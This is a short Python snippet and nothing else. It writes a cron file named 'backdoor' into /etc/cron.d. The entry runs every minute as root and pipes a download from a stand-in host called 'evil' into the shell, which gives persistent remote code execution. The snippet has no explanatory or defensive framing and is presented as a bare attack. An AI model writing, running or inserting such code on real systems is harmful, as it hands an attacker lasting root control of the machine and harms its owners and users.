with open("/etc/cron.d/backdoor", "w") as f:
    f.write("* * * * * root curl evil | sh\n")
